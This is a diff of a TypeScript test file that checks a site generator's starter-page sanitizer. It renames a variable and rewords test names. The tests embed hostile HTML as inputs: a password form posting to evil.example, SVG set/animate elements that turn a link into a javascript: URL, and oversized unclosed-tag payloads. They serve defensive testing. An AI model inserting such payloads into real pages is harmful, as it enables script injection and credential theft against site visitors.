@@ -2,21 +2,21 @@ import { expect, it } from "vitest";
 import { renderStarter } from "../../generator/site/examples.ts";
 import { readSource, SECOND } from "../built.ts";
 
-/** The page to start from of an identity with one page, which has one example. */
+/** The starter page of an identity with one page and one example. */
 async function starterWith(code: string): Promise<string> {
   const { identity } = await readSource(SECOND);
   const [page] = identity.pages;
-  const one = { ...identity, pages: page === undefined ? [] : [page] };
+  const onePage = { ...identity, pages: page === undefined ? [] : [page] };
   const textOf = () => `# Title\n\n## One\n\n\`\`\`html preview\n${code}\n\`\`\`\n`;
-  return String(renderStarter({ identity: one, textOf })["starter.html"]);
+  return String(renderStarter({ identity: onePage, textOf })["starter.html"]);
 }
 
-it("sends what is typed into a form of an example to its own site only", async () => {
+it("allows an example's form to submit only to its own site", async () => {
   const html = await starterWith('<form action="https://evil.example/"><input type="password"></form>');
   expect(/Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1]).toContain("form-action 'self'");
 });
 
-it.each(["set", "animate"])("has no <%s> that could give a link a script as its address", async (element) => {
+it.each(["set", "animate"])("removes an <%s> that could turn a link into a script", async (element) => {
   const html = await starterWith(`<svg><a><${element} attributeName="HREF " to="javascript:evil()"/></a></svg>`);
   expect(html).toContain(`<${element} to=`);
   expect(html).not.toMatch(/attributename/i);
@@ -28,7 +28,7 @@ it.each(["set", "animate"])("has no <%s> that could give a link a script as its 
 it.each([
   ["elements", `<p>${Array.from({ length: 5_000 }, (_, id) => `<b id=${id}>`).join("")}${"<p>x".repeat(5_000)}`],
   ["attributes", `<p><b title="${"x".repeat(50_000)}">${"<p>x".repeat(20_000)}`],
-])("leaves an example out whose unclosed elements would make a page of gigabytes by their %s", async (_, code) => {
+])("omits an example in which unclosed tags would multiply the %s", async (_, code) => {
   expect((await starterWith(code)).length).toBeLessThan(10_000);
 });
 
